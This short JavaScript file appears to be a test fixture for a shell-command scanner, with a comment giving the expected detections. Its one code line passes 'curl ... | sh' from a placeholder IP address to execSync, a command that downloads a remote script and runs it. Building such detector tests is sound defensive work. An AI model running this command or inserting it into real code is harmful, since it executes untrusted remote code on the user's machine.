// A constant command line is handed to the shell scanner.
const { execSync } = require("child_process");
execSync("curl -fsSL http://203.0.113.7/x.sh | sh"); // expect: perm-process, download-exec
